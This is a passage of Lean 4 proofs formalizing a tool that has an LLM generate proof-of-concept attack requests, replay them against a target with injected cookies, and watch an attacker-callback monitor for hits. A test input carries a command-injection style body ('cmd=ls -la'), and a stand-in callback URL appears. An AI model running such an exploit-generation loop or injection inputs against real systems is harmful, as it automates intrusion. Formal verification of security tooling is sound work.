  chat : Nat → List ChatMessage → Except String String
  savePaths : Nat → List String → List String
  validateRemote : Nat → List HTTPMessage → Except String (List ValidationResult)
  monitorWait : Nat → Bool × Option String

/-- The mutable state threaded through the attempt loop. -/
structure LoopState where
  conversation : List ChatMessage
  feedback : Option String
  attempts : List AttemptResult
  overall : Bool
  lastRaw : String
  lastRequests : List HTTPMessage
  lastSaved : List String
  lastValidation : Option (List ValidationResult)

/-- One pass of the `for attempt_index in range(max_iters)` body after the
LLM reply arrived: split, parse/validate, save, optionally replay and wait
on the oracle, then synthesise feedback and append the attempt record. -/
def attemptStep (cfg : LoopConfig) (env : LoopEnv) (attemptIndex : Nat)
    (st : LoopState) (rawOutput : String) : LoopState × Bool :=
  let conversation := st.conversation ++ [⟨"assistant", rawOutput⟩]
  let rawMessages0 := splitMessages rawOutput
  let rawMessages :=
    if rawMessages0 = [] ∧ (⟨pyStrip rawOutput.data⟩ : String) ≠ "" then
      [(⟨pyStrip rawOutput.data⟩ : String)]
    else rawMessages0
  let savedPaths := if rawMessages ≠ [] then env.savePaths attemptIndex rawMessages else []
  let parsed := attemptParseLoop 0 rawMessages
  let doValidate := cfg.autoValidate ∧ cfg.target.isSome ∧ parsed.1 ≠ []
  let requests :=
    if doValidate then
      match cfg.sampleCookiesHeader with
      | some cookie => injectCookies cookie parsed.1
      | none => parsed.1
    else parsed.1
  let validated : Option (List ValidationResult) × Option String :=
    if doValidate then
      match env.validateRemote attemptIndex requests with
      | .ok rs => (some rs, none)
      | .error e => (none, some e)
    else (none, none)
  let monitored : Bool × Option String :=
    if cfg.monitorRunning ∧ requests ≠ [] then env.monitorWait attemptIndex
    else (false, none)
  let feedbackNext :=
    if ¬ monitored.1 then
      buildAttemptFeedback parsed.2 validated.1 cfg.attackerUrl cfg.monitorRunning validated.2
    else none
  let record : AttemptResult :=
    { attempt_index := attemptIndex, raw_output := rawOutput, requests := requests,
      saved_paths := savedPaths, validation_results := validated.1,
      monitor_hit := monitored.1, monitor_summary := monitored.2,
      feedback := feedbackNext }
  ({ conversation := conversation, feedback := feedbackNext,
     attempts := st.attempts ++ [record], overall := st.overall ∨ monitored.1,
     lastRaw := rawOutput, lastRequests := requests, lastSaved := savedPaths,
     lastValidation := validated.1 },
   monitored.1)

/-- The attempt loop: `remaining` attempts left, next index `attemptIndex`.
The LLM call has no surrounding `except`, only a `finally` closing the
client, so a transport error propagates from any attempt. -/
def runAttempts (cfg : LoopConfig) (env : LoopEnv) :
    Nat → Nat → LoopState → Except String LoopState
  | 0, _, st => .ok st
  | remaining + 1, attemptIndex, st =>
    let messages := st.conversation ++
      (match cfg.targetProfileBlock with
       | some b => [⟨"user", "Updated target profile:\n" ++ b⟩]
       | none => []) ++
      (match st.feedback with
       | some f => [⟨"user", "Feedback from previous attempt:\n" ++ f⟩]
       | none => [])
    match env.chat attemptIndex messages with
    | .error e => .error e
    | .ok rawOutput =>
      let stepped := attemptStep cfg env attemptIndex st rawOutput
      if stepped.2 ∧ cfg.stopAfterSuccess then .ok stepped.1
      else runAttempts cfg env remaining (attemptIndex + 1) stepped.1

/-- The initial loop state: the prompt built at `Init`, no feedback yet. -/
def initialLoopState (cfg : LoopConfig) : LoopState :=
  { conversation := cfg.initialMessages, feedback := none, attempts := [],
    overall := false, lastRaw := "", lastRequests := [], lastSaved := [],
    lastValidation := none }

/-- The number of attempts `generate_poc` runs:
`max(1, max_iterations)`, forced to 1 when replay validation is off. -/
def effectiveIterations (cfg : LoopConfig) : Nat :=
  if ¬ cfg.autoValidate then 1 else max 1 cfg.maxIterations

/-- `generate_poc` (`core/generator.py`), from `Init` done to the final
`GenerationResult`; an uncaught exception surfaces as `Except.error`. -/
def generatePoc (cfg : LoopConfig) (env : LoopEnv) : Except String GenerationResult :=
  (runAttempts cfg env (effectiveIterations cfg) 0 (initialLoopState cfg)).map
    (fun st =>
      { raw_output := st.lastRaw, requests := st.lastRequests,
        saved_paths := st.lastSaved, validation_results := st.lastValidation,
        attempts := some st.attempts, success := some st.overall })

/-! ## Concrete instances used by witnesses and counterexamples -/

/-- The scenario input of the HTTP parsing test (`tests/test_http_parsing.py`). -/
def raw5 : String :=
  "POST /do.cgi HTTP/1.1\r\nHost: TARGET\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10\r\n\r\ncmd=ls -la"

/-- A trivial `urljoin` oracle for concrete runs. -/
def urljoinW : String → String → String := fun base rel => base ++ rel

/-- A transport oracle that refuses the connection on every request. -/
def transportW : Nat → String → String → List (String × String) → Option String →
    Except String HTTPResponse :=
  fun _ _ _ _ _ => .error "connection refused"

/-- A transport oracle answering 503 to every request. -/
def transport503 : Nat → String → String → List (String × String) → Option String →
    Except String HTTPResponse :=
  fun _ _ _ _ _ => .ok { status_code := 503, text := "Server Error" }

/-- A concrete request for the remote-validator runs. -/
def msgW : HTTPMessage :=
  { method := "POST", path := "/do.cgi", version := "HTTP/1.1",
    headers := [("Host", "t"), ("Content-Length", "3")], body := "a=b" }

/-- A loop configuration with two attempts and no replay target. -/
def c2Cfg : LoopConfig :=
  { initialMessages := [⟨"system", "sys"⟩, ⟨"user", "task"⟩],
    maxIterations := 2, autoValidate := true, stopAfterSuccess := false,
    target := none, attackerUrl := "http://a:6666/", monitorRunning := false,
    targetProfileBlock := none, sampleCookiesHeader := none }

/-- A run whose LLM transport succeeds on the first attempt and fails on the
second. -/
def c2Env : LoopEnv :=
  { chat := fun i _ =>
      if i = 0 then .ok "GET / HTTP/1.1" else .error "connection failure",
    savePaths := fun i raws =>
      (List.range raws.length).map
        (fun k => "poc_" ++ toString i ++ "_" ++ toString k ++ ".http"),
    validateRemote := fun _ _ => .ok [],
    monitorWait := fun _ => (false, none) }

/-- A run whose LLM transport fails immediately. -/
def c2EnvW : LoopEnv :=
  { chat := fun _ _ => .error "network down",
    savePaths := fun _ _ => [],
    validateRemote := fun _ _ => .ok [],
    monitorWait := fun _ => (false, none) }

/-- Fields of a socket event object carrying both addressing means and no
payload. -/
def fsBoth : List (String × JValue) :=
  [("url", .jstr "ws://h:1/socket.io/"), ("path", .jstr "/socket.io/"),
   ("event", .jstr "ping")]

/-- Fields of a socket event object with a blank `Cookie` header and no
`cookies` field. -/
def fsBlankCookie : List (String × JValue) :=
  [("url", .jstr "ws://h:1/socket.io/"), ("event", .jstr "ping"),
   ("payload", .jstr "x"),
   ("headers", .jobj [("Cookie", .jstr ""), ("X-Api", .jstr "k")])]

/-- The fields of a socket event object with a nonempty `Cookie` header. -/
def fs9 : List (String × JValue) :=
  [("url", .jstr "ws://h:1/socket.io/"), ("event", .jstr "ping"),
   ("payload", .jstr "x"),
   ("headers", .jobj [("Cookie", .jstr " sid=1; t=2 "), ("X-Api", .jstr "k")])]

/-! ## Theorems -/

/-- C1 (corrected, counterexample): `parse_and_validate` itself does raise —
on the empty input it propagates the `Empty HTTP message` parse error
instead of returning a placeholder message. -/
theorem parseAndValidate_raises_on_empty :
    parseAndValidate "" = .error "Empty HTTP message" := rfl

/-- C1 (amended): the never-raise placeholder policy is implemented by
`parse_and_filter`, which wraps `parse_and_validate`: a parseable input
yields the parsed message with its (possibly nonempty) validation warnings,
and a parse failure yields the placeholder message (empty method/path, raw
text in body) with a nonempty one-element warning list. -/
theorem parseAndFilter_placeholder_dichotomy (raw : String) :
    (∀ m, HTTPMessage.parse raw = .ok m →
      parseAndFilter [raw] = [(m, validateHttpMessage m)]) ∧
    (∀ e, HTTPMessage.parse raw = .error e →
      parseAndFilter [raw] = [(placeholderMessage raw, ["Parse error: " ++ e])] ∧
      (["Parse error: " ++ e] : List String) ≠ []) := by
  constructor
  · intro m hm
    simp [parseAndFilter, parseAndValidate, hm, Except.map]
  · intro e he
    refine ⟨?_, by simp⟩
    simp [parseAndFilter, parseAndValidate, he, Except.map]

/-- C1 witness: the dichotomy at the concrete unparseable input `""`. -/
theorem parseAndFilter_placeholder_dichotomy_witness :
    parseAndFilter [""] = [(placeholderMessage "", ["Parse error: Empty HTTP message"])] :=
  ((parseAndFilter_placeholder_dichotomy "").2 "Empty HTTP message" rfl).1

/-- C3 (corrected, counterexample): a first line of 4 tokens is accepted by
`HTTPMessage.parse`, though the claim requires construction to fail for any
token count other than 3. -/
theorem httpParse_accepts_four_tokens :
    (pySplitWs (pyStrip ((pySplitlines "GET / HTTP/1.1 extra".data).headD []))).length = 4 ∧
    (HTTPMessage.parse "GET / HTTP/1.1 extra").toOption.isSome = true :=
  ⟨rfl, rfl⟩

/-- C3 (amended): `HTTPMessage.parse` fails exactly when the raw text has no
lines at all or its first line strips to fewer than 3 whitespace-separated
tokens; extra tokens beyond the third are ignored, not rejected. -/
theorem httpParse_error_iff_tokens_lt_three (raw : String) :
    (HTTPMessage.parse raw).toOption = none ↔
      (pySplitlines raw.data = [] ∨
       (pySplitWs (pyStrip ((pySplitlines raw.data).headD []))).length < 3) := by
  unfold HTTPMessage.parse
  cases h : pySplitlines raw.data with
  | nil => simp [Except.toOption]
  | cons first rest =>
    by_cases hlt : (pySplitWs (pyStrip first)).length < 3 <;>
      simp [hlt, Except.toOption]

/-- C5 (corrected, counterexample): on the scenario input the warning list is
empty — the declared `Content-Length` 10 equals the body's actual UTF-8 byte
length 10, so no mismatch is reported. -/
theorem scenario_warnings_empty :
    (parseAndValidate raw5).toOption.map (fun r => r.2) = some [] ∧
    utf8Len "cmd=ls -la".data = 10 := ⟨rfl, rfl⟩

/-- C5 (amended): the scenario input parses to method `POST`, path
`/do.cgi`, version `HTTP/1.1` with a `Host` header, and validation reports
no warnings (declared Content-Length 10, actual body length 10). -/
theorem scenario_parse_and_validate :
    parseAndValidate raw5 =
      .ok ({ method := "POST", path := "/do.cgi", version := "HTTP/1.1",
             headers := [("Host", "TARGET"),
                         ("Content-Type", "application/x-www-form-urlencoded"),
                         ("Content-Length", "10")],
             body := "cmd=ls -la" }, []) ∧
    dictContains [("Host", "TARGET"),
                  ("Content-Type", "application/x-www-form-urlencoded"),
                  ("Content-Length", "10")] "Host" = true :=
  ⟨rfl, rfl⟩

/-- C10 (confirmed): the status handler is read-then-clear — for every
monitor state, a request whose `clear` parameter is affirmative answers with
the hit flag, timestamp and summary taken from the state before clearing,
and the new state has the event, timestamp and summary reset. -/
theorem handleStatus_read_then_clear (st : MonitorState)
    (params : List (String × List String))
    (h : clearFlag (clearParamValue params) = true) :
    handleStatus st params =
      ({ ok := true, hit := st.eventSet,
         hit_time := match st.lastHitTs with
           | some t => if t ≠ 0 then t else 0
           | none => 0,
         summary := st.lastRequestSummary.getD "" },
       { eventSet := false, lastHitTs := none, lastRequestSummary := none }) := by
  simp [handleStatus, h]

/-- C10 witness: a poller that clears still reads the full hit it cleared. -/
theorem handleStatus_read_then_clear_witness :
    handleStatus { eventSet := true, lastHitTs := some 1700000000,
                   lastRequestSummary := some "GET /x" }
        [("clear", ["1"])] =
      ({ ok := true, hit := true, hit_time := 1700000000, summary := "GET /x" },
       { eventSet := false, lastHitTs := none, lastRequestSummary := none }) := by
  exact handleStatus_read_then_clear _ _ rfl

/-- Length of the remote-validation loop output, any start index. -/
theorem validateHttpRequestsFrom_length (urljoin : String → String → String)
    (transport : Nat → String → String → List (String × String) → Option String →
      Except String HTTPResponse)
    (target : String) :
    ∀ (reqs : List HTTPMessage) (idx : Nat),
      (validateHttpRequestsFrom urljoin transport target idx reqs).length = reqs.length := by
  intro reqs
  induction reqs with
  | nil => intro idx; rfl
  | cons message rest ih =>
    intro idx
    simp [validateHttpRequestsFrom, ih]

/-- Element `i` of the remote-validation loop output, any start index. -/
theorem validateHttpRequestsFrom_get? (urljoin : String → String → String)
    (transport : Nat → String → String → List (String × String) → Option String →
      Except String HTTPResponse)
    (target : String) :
    ∀ (reqs : List HTTPMessage) (idx i : Nat) (message : HTTPMessage),
      reqs.get? i = some message →
      (validateHttpRequestsFrom urljoin transport target idx reqs).get? i =
        some (
          match transport (idx + i) (requestCallArgs urljoin message target).1
              (requestCallArgs urljoin message target).2.1
              (requestCallArgs urljoin message target).2.2.1
              (requestCallArgs urljoin message target).2.2.2 with
          | .ok resp =>
            { request_index := idx + i,
              url := (requestCallArgs urljoin message target).2.1,
              status_code := some resp.status_code,
              success := decide (resp.status_code < 500),
              response_preview := ⟨resp.text.data.take 500⟩, error := none }
          | .error e =>
            { request_index := idx + i,
              url := (requestCallArgs urljoin message target).2.1,
              status_code := none,
              success := false, response_preview := "", error := some e }) := by
  intro reqs
  induction reqs with
  | nil => intro idx i message h; simp at h
  | cons first rest ih =>
    intro idx i message h
    cases i with
    | zero =>
      rw [List.get?_cons_zero] at h
      injection h with h
      subst h
      simp only [validateHttpRequestsFrom, List.get?_cons_zero, Nat.add_zero]
    | succ i2 =>
      rw [List.get?_cons_succ] at h
      have hrec := ih (idx + 1) i2 message h
      rw [show idx + 1 + i2 = idx + (i2 + 1) by omega] at hrec
      simpa [validateHttpRequestsFrom] using hrec

/-- C8 (confirmed): `validate_http_requests` yields one result per message;
when the transport answers, success is exactly `status < 500`; when the
transport raises, the result records the failure (no status, the exception
text as error) and the exception never propagates — every later message is
still processed, as the length equality shows. -/
theorem validateHttpRequests_per_request (urljoin : String → String → String)
    (transport : Nat → String → String → List (String × String) → Option String →
      Except String HTTPResponse)
    (requests : List HTTPMessage) (target : String) :
    (validateHttpRequests urljoin transport requests target).length = requests.length ∧
    ∀ i message, requests.get? i = some message →
      ∃ r, (validateHttpRequests urljoin transport requests target).get? i = some r ∧
        r.request_index = i ∧
        r.url = resolveUrl urljoin message target ∧
        (∀ resp,
          transport i (requestCallArgs urljoin message target).1
              (requestCallArgs urljoin message target).2.1
              (requestCallArgs urljoin message target).2.2.1
              (requestCallArgs urljoin message target).2.2.2 = .ok resp →
          (r.success = true ↔ resp.status_code < 500) ∧
          r.status_code = some resp.status_code ∧ r.error = none) ∧
        (∀ e,
          transport i (requestCallArgs urljoin message target).1
              (requestCallArgs urljoin message target).2.1
              (requestCallArgs urljoin message target).2.2.1
              (requestCallArgs urljoin message target).2.2.2 = .error e →
          r.success = false ∧ r.status_code = none ∧ r.error = some e) := by
  constructor
  · exact validateHttpRequestsFrom_length urljoin transport target requests 0
  · intro i message h
    have hget := validateHttpRequestsFrom_get? urljoin transport target requests 0 i message h
    simp only [Nat.zero_add] at hget
    refine ⟨_, hget, ?_, ?_, ?_, ?_⟩
    · cases htr : transport i (requestCallArgs urljoin message target).1
          (requestCallArgs urljoin message target).2.1
          (requestCallArgs urljoin message target).2.2.1
          (requestCallArgs urljoin message target).2.2.2 <;> simp [htr]
    · cases htr : transport i (requestCallArgs urljoin message target).1
          (requestCallArgs urljoin message target).2.1
          (requestCallArgs urljoin message target).2.2.1
          (requestCallArgs urljoin message target).2.2.2 <;>
        simp [htr, requestCallArgs]
    · intro resp h2; simp [h2]
    · intro e h2; simp [h2]

/-- C8 witness: a refused connection on the only request is recorded as a
failed result with the exception text, not propagated. -/
theorem validateHttpRequests_per_request_witness :
    ((validateHttpRequests urljoinW transportW [msgW] "http://t").get? 0).map
        (fun r => (r.success, r.status_code, r.error)) =
      some (false, none, some "connection refused") ∧
    (validateHttpRequests urljoinW transportW [msgW] "http://t").length = 1 := by
  obtain ⟨r, hget, hidx, hurl, hok, herr⟩ :=
    (validateHttpRequests_per_request urljoinW transportW [msgW] "http://t").2 0 msgW rfl
  obtain ⟨h1, h2, h3⟩ := herr "connection refused" rfl
  exact ⟨by rw [hget]; simp [h1, h2, h3],
         (validateHttpRequests_per_request urljoinW transportW [msgW] "http://t").1⟩

/-- C7 (corrected, counterexample): an object with both `url` and `path`
present and no `payload` field is accepted by `SocketEventMessage.parse`,
though the claim requires exactly one addressing means and a payload. -/
theorem socketParse_accepts_both_means_no_payload :
    (SocketEventMessage.parse (.jobj fsBoth)).toOption.isSome = true ∧
    socketStrField fsBoth "url" = "ws://h:1/socket.io/" ∧
    socketStrField fsBoth "path" = "/socket.io/" ∧
    (jGet fsBoth "payload").isNull = true := ⟨rfl, rfl, rfl, rfl⟩

/-- C7 (amended): `SocketEventMessage.parse` fails exactly when the value is
not an object, or neither `url` nor `path` is (truthily) present, or no
frame is given and the event name is missing, or `headers` is a truthy
non-object, or `max_response_frames` is not `int()`-convertible. Both
addressing means may be present together, and `payload` is never required
by parsing (only flagged later by `validate_socket_event`). -/
theorem socketParse_error_iff (d : JValue) :
    (SocketEventMessage.parse d).toOption = none ↔
      (match d with
       | .jobj fs =>
         (socketStrField fs "url" = "" ∧ socketStrField fs "path" = "") ∨
         ((socketFrame fs).isNull = true ∧ socketStrField fs "event" = "") ∨
         socketHeadersBad fs = true ∨
         (socketMrf fs).toOption = none
       | _ => True) := by
  cases d with
  | jobj fs =>
    simp only [SocketEventMessage.parse]
    by_cases h1 : socketStrField fs "url" = "" ∧ socketStrField fs "path" = ""
    · simp [h1, Except.toOption]
    · rw [if_neg h1]
      by_cases h2 : (socketFrame fs).isNull
      · by_cases h3 : socketStrField fs "event" = ""
        · simp [h1, h2, h3, Except.toOption]
        · by_cases h4 : socketHeadersBad fs
          · simp [h1, h2, h3, h4, Except.toOption]
          · cases h5 : socketMrf fs with
            | ok mrf => simp [h1, h2, h3, h4, h5, Except.toOption]
            | error e => simp [h1, h2, h3, h4, h5, Except.toOption]
      · by_cases h4 : socketHeadersBad fs
        · simp [h1, h2, h4, Except.toOption]
        · cases h5 : socketMrf fs with
          | ok mrf => simp [h1, h2, h4, h5, Except.toOption]
          | error e => simp [h1, h2, h4, h5, Except.toOption]
  | jnull => simp [SocketEventMessage.parse, Except.toOption]
  | jbool b => simp [SocketEventMessage.parse, Except.toOption]
  | jnum n => simp [SocketEventMessage.parse, Except.toOption]
  | jstr s => simp [SocketEventMessage.parse, Except.toOption]
  | jarr xs => simp [SocketEventMessage.parse, Except.toOption]

/-- A contained key has a value. -/
theorem dictContains_exists_get (d : List (String × String)) (k : String)
    (h : dictContains d k = true) : ∃ v, dictGet d k = some v := by
  induction d with
  | nil => simp [dictContains] at h
  | cons p rest ih =>
    by_cases hp : p.1 = k
    · exact ⟨p.2, by simp [dictGet, List.find?, hp]⟩
    · have h2 : dictContains rest k = true := by
        simp [dictContains] at h ⊢
        rcases h with h | h
        · exact absurd h hp
        · exact h
      obtain ⟨v, hv⟩ := ih h2
      exact ⟨v, by simp [dictGet, List.find?, hp] at hv ⊢; exact hv⟩

/-- Removing one key leaves every other key's lookup unchanged. -/
theorem dictGet_dictRemove_ne (d : List (String × String)) (k k2 : String)
    (h : k2 ≠ k) : dictGet (dictRemove d k) k2 = dictGet d k2 := by
  induction d with
  | nil => rfl
  | cons p rest ih =>
    by_cases hp : p.1 = k
    · have hne : p.1 ≠ k2 := fun hh => h (by rw [← hh]; exact hp)
      have e1 : dictRemove (p :: rest) k = dictRemove rest k := by
        simp [dictRemove, List.filter_cons, hp]
      rw [e1, ih]
      unfold dictGet
      rw [List.find?_cons_of_neg _ (by simpa using hne)]
    · have e1 : dictRemove (p :: rest) k = p :: dictRemove rest k := by
        simp [dictRemove, List.filter_cons, hp]
      rw [e1]
      by_cases hk2 : p.1 = k2
      · unfold dictGet
        rw [List.find?_cons_of_pos _ (by simpa using hk2),
            List.find?_cons_of_pos _ (by simpa using hk2)]
      · unfold dictGet
        rw [List.find?_cons_of_neg _ (by simpa using hk2),
            List.find?_cons_of_neg _ (by simpa using hk2)]
        exact ih

/-- C9 (amended): when a parsed socket event had a blank-or-absent `cookies`
field and a `Cookie` header, the header is removed, every other
(stringified) header entry is preserved, and the `cookies` field becomes the
stripped header value — except that an empty header value yields `None`
rather than the empty string, because the code re-tests truthiness after the
pop. -/
theorem socketParse_cookie_promotion (fs : List (String × JValue))
    (m : SocketEventMessage)
    (hok : SocketEventMessage.parse (.jobj fs) = .ok m)
    (hblank : (jGet fs "cookies").isNull = true ∨
      pyStrip (pyStrJ (jGet fs "cookies")).data = [])
    (hcookie : dictContains (socketHeaders0 fs) "Cookie" = true) :
    m.headers = dictRemove (socketHeaders0 fs) "Cookie" ∧
    (∀ k, k ≠ "Cookie" → dictGet m.headers k = dictGet (socketHeaders0 fs) k) ∧
    m.cookies = (match dictGet (socketHeaders0 fs) "Cookie" with
                 | some v => if v ≠ "" then some ⟨pyStrip v.data⟩ else none
                 | none => none) := by
  have hprom : socketPromoteCookie fs = true := by
    unfold socketPromoteCookie
    rcases hblank with hb | hb <;> simp [hb, hcookie]
  obtain ⟨v, hv⟩ := dictContains_exists_get _ _ hcookie
  simp only [SocketEventMessage.parse] at hok
  by_cases h1 : socketStrField fs "url" = "" ∧ socketStrField fs "path" = ""
  · rw [if_pos h1] at hok; cases hok
  · rw [if_neg h1] at hok
    by_cases h2 : (socketFrame fs).isNull
    · simp only [h2, if_true] at hok
      by_cases h3 : socketStrField fs "event" = ""
      · rw [if_pos h3] at hok; cases hok
      · rw [if_neg h3] at hok
        by_cases h4 : socketHeadersBad fs
        · simp only [h4, if_true] at hok; cases hok
        · simp only [h4, if_false, Bool.false_eq_true] at hok
          cases h5 : socketMrf fs with
          | error e => rw [h5] at hok; cases hok
          | ok mrf =>
            rw [h5] at hok
            injection hok with hok
            subst hok
            refine ⟨by simp [hprom], ?_, ?_⟩
            · intro k hk
              simp only [hprom, if_true]
              exact dictGet_dictRemove_ne _ _ _ hk
            · simp only [hprom, if_true, hv]
              by_cases hve : v = "" <;>
                simp [hve, JValue.truthy, pyStrJ]
    · simp only [h2, if_false, Bool.false_eq_true] at hok
      by_cases h4 : socketHeadersBad fs
      · simp only [h4, if_true] at hok; cases hok
      · simp only [h4, if_false, Bool.false_eq_true] at hok
        cases h5 : socketMrf fs with
        | error e => rw [h5] at hok; cases hok
        | ok mrf =>
          rw [h5] at hok
          injection hok with hok
          subst hok
          refine ⟨by simp [hprom], ?_, ?_⟩
          · intro k hk
            simp only [hprom, if_true]
            exact dictGet_dictRemove_ne _ _ _ hk
          · simp only [hprom, if_true, hv]
            by_cases hve : v = "" <;>
              simp [hve, JValue.truthy, pyStrJ]

/-- C9 witness: the promotion at a concrete event with a nonempty `Cookie`
header. -/
theorem socketParse_cookie_promotion_witness :
    (some "sid=1; t=2" : Option String) =
      (match dictGet (socketHeaders0 fs9) "Cookie" with
       | some v => if v ≠ "" then some ⟨pyStrip v.data⟩ else none
       | none => none) ∧
    ([("X-Api", "k")] : List (String × String)) =
      dictRemove (socketHeaders0 fs9) "Cookie" := by
  have hok : SocketEventMessage.parse (.jobj fs9) = .ok
      { url := "ws://h:1/socket.io/", path := none, event := some "ping",
        payload := .jstr "x", raw_frame := none, nsp := none,
        headers := [("X-Api", "k")], cookies := some "sid=1; t=2",
        wait_for_response := true, max_response_frames := 1 } := rfl
  obtain ⟨hh, _, hc⟩ :=
    socketParse_cookie_promotion fs9 _ hok (Or.inl rfl) rfl
  exact ⟨hc, hh⟩

/-- C9 (corrected, counterexample): a `Cookie` header whose value is the
empty string is promoted to `cookies = None`, not to the stripped header
value `""`: after the pop the code keeps the value only if it is truthy. -/
theorem socketParse_blank_cookie_header_gives_none :
    ((SocketEventMessage.parse (.jobj fsBlankCookie)).toOption.map
        (fun m => m.cookies)) = some none ∧
    dictGet (socketHeaders0 fsBlankCookie) "Cookie" = some "" := ⟨rfl, rfl⟩

/-- If every earlier chat call succeeds and the loop never breaks early,
a chat error at a reachable attempt aborts the whole loop. -/
theorem runAttempts_chat_error (cfg : LoopConfig) (env : LoopEnv) (i : Nat)
    (e : String) (hstop : cfg.stopAfterSuccess = false)
    (herr : ∀ msgs, env.chat i msgs = .error e) :
    ∀ (remaining start : Nat) (st : LoopState), start ≤ i → i < start + remaining →
      (∀ j, start ≤ j → j < i → ∀ msgs, (env.chat j msgs).toOption.isSome = true) →
      runAttempts cfg env remaining start st = .error e := by
  intro remaining
  induction remaining with
  | zero =>
    intro start st hle hlt hok
    omega
  | succ rem ih =>
    intro start st hle hlt hok
    by_cases hsi : start = i
    · subst hsi
      unfold runAttempts
      simp only [herr]
    · have hlt2 : start < i := lt_of_le_of_ne hle hsi
      obtain ⟨raw, hraw⟩ : ∃ r, env.chat start
          (st.conversation ++
            (match cfg.targetProfileBlock with
             | some b => [⟨"user", "Updated target profile:\n" ++ b⟩]
             | none => []) ++
            (match st.feedback with
             | some f => [⟨"user", "Feedback from previous attempt:\n" ++ f⟩]
             | none => [])) = .ok r := by
        have hs := hok start (Nat.le_refl start) hlt2
          (st.conversation ++
            (match cfg.targetProfileBlock with
             | some b => [⟨"user", "Updated target profile:\n" ++ b⟩]
             | none => []) ++
            (match st.feedback with
             | some f => [⟨"user", "Feedback from previous attempt:\n" ++ f⟩]
             | none => []))
        cases hc : env.chat start
            (st.conversation ++
              (match cfg.targetProfileBlock with
               | some b => [⟨"user", "Updated target profile:\n" ++ b⟩]
               | none => []) ++
              (match st.feedback with
               | some f => [⟨"user", "Feedback from previous attempt:\n" ++ f⟩]
               | none => [])) with
        | ok r => exact ⟨r, rfl⟩
        | error e2 => rw [hc] at hs; simp [Except.toOption] at hs
      unfold runAttempts
      simp only [hraw, hstop, Bool.false_eq_true, and_false, if_false]
      exact ih (start + 1) _ (by omega) (by omega)
        (fun j hj1 hj2 msgs => hok j (by omega) hj2 msgs)

/-- C2 (amended): an LLM transport error propagates out of `generate_poc`
from whichever attempt it occurs on, not only from the first — the chat call
sits in a `try/finally` with no `except`. The hypotheses say attempt `i`
exists, every earlier attempt's transport succeeded, and no early
success-stop occurred before it. -/
theorem generatePoc_chat_error_propagates (cfg : LoopConfig) (env : LoopEnv)
    (i : Nat) (e : String)
    (hstop : cfg.stopAfterSuccess = false)
    (hi : i < effectiveIterations cfg)
    (hok : ∀ j, j < i → ∀ msgs, (env.chat j msgs).toOption.isSome = true)
    (herr : ∀ msgs, env.chat i msgs = .error e) :
    generatePoc cfg env = .error e := by
  unfold generatePoc
  rw [runAttempts_chat_error cfg env i e hstop herr (effectiveIterations cfg) 0
    (initialLoopState cfg) (Nat.zero_le i) (by omega)
    (fun j hj1 hj2 msgs => hok j hj2 msgs)]
  rfl

/-- C2 witness: a first-attempt transport failure aborts the run. -/
theorem generatePoc_chat_error_propagates_witness :
    generatePoc c2Cfg c2EnvW = .error "network down" := by
  exact generatePoc_chat_error_propagates c2Cfg c2EnvW 0 "network down" rfl
    (by decide) (fun j hj => absurd hj (Nat.not_lt_zero j)) (fun msgs => rfl)

/-- C2 (corrected, counterexample): with a transport that succeeds on the
first attempt and fails on the second, the second-attempt failure is NOT
caught and converted into feedback — `generate_poc` aborts with the
transport error, contradicting the first-attempt-only propagation policy. -/
theorem generatePoc_second_attempt_error_propagates :
    (c2Env.chat 0 []).toOption.isSome = true ∧
    effectiveIterations c2Cfg = 2 ∧
    generatePoc c2Cfg c2Env = .error "connection failure" := ⟨rfl, rfl, rfl⟩

/-- Dropping a prefix cannot reach past elements that fail the predicate. -/
theorem dropWhile_append_of_all_neg {p : Char → Bool} (a : List Char)
    (ha : ∀ x ∈ a, p x = false) :
    ∀ b : List Char, ∃ y, (b ++ a).dropWhile p = y ++ a := by
  intro b
  induction b with
  | nil =>
    refine ⟨[], ?_⟩
    cases a with
    | nil => simp
    | cons c t => simp [List.dropWhile_cons, ha c (by simp)]
  | cons x b2 ih =>
    by_cases hx : p x
    · obtain ⟨y, hy⟩ := ih
      exact ⟨y, by simp [List.dropWhile_cons, hx, hy]⟩
    · exact ⟨x :: b2, by simp [List.dropWhile_cons, hx]⟩

/-- Stripping cannot eat into a leading run of predicate-failing characters:
the strip of `a ++ b` still starts with all of `a`. -/
theorem pyStripWith_append_keep {p : Char → Bool} (a b : List Char) (hne : a ≠ [])
    (ha : ∀ x ∈ a, p x = false) : ∃ y, pyStripWith p (a ++ b) = a ++ y := by
  obtain ⟨c, t, rfl⟩ : ∃ c t, a = c :: t := by
    cases a with
    | nil => exact absurd rfl hne
    | cons c t => exact ⟨c, t, rfl⟩
  unfold pyStripWith
  have hfront : ((c :: t) ++ b).dropWhile p = (c :: t) ++ b := by
    simp [List.dropWhile_cons, ha c (by simp)]
  rw [hfront, List.reverse_append]
  obtain ⟨y, hy⟩ := dropWhile_append_of_all_neg (p := p) (c :: t).reverse
    (by intro x hx; exact ha x (by simpa using (List.mem_reverse.mp hx))) b.reverse
  rw [hy]
  exact ⟨y.reverse, by simp⟩

/-- Characters dropped by `dropWhile p` are invisible to a filter that
rejects everything `p` accepts. -/
theorem filter_dropWhile_of_imp {p q : Char → Bool}
    (h : ∀ c, p c = true → q c = false) :
    ∀ l : List Char, (l.dropWhile p).filter q = l.filter q := by
  intro l
  induction l with
  | nil => rfl
  | cons c rest ih =>
    by_cases hc : p c
    · simp [List.dropWhile_cons, hc, List.filter_cons, h c hc, ih]
    · simp [List.dropWhile_cons, hc]

/-- Stripping is invisible to a filter that rejects the stripped class. -/
theorem filter_pyStripWith {p q : Char → Bool}
    (h : ∀ c, p c = true → q c = false) (l : List Char) :
    (pyStripWith p l).filter q = l.filter q := by
  unfold pyStripWith
  rw [List.filter_reverse, filter_dropWhile_of_imp h, List.filter_reverse,
    filter_dropWhile_of_imp h]
  simp

/-- `interNl` on a nonempty list, unfolded once. -/
theorem interNl_cons (a : List Char) (ls : List (List Char)) :
    interNl (a :: ls) = a ++ (if ls = [] then [] else '\n' :: interNl ls) := by
  cases ls <;> simp [interNl]

/-- The separators `interNl` inserts are invisible to a filter rejecting
`'\n'`. -/
theorem filter_interNl {q : Char → Bool} (hnl : q '\n' = false)
    (ls : List (List Char)) :
    (interNl ls).filter q = (ls.map (List.filter q)).flatten := by
  induction ls with
  | nil => rfl
  | cons a ls ih =>
    rw [interNl_cons]
    by_cases h : ls = []
    · subst h; simp
    · simp [h, List.filter_append, List.filter_cons, hnl, ih]

/-- `splitNl` never returns the empty list of lines. -/
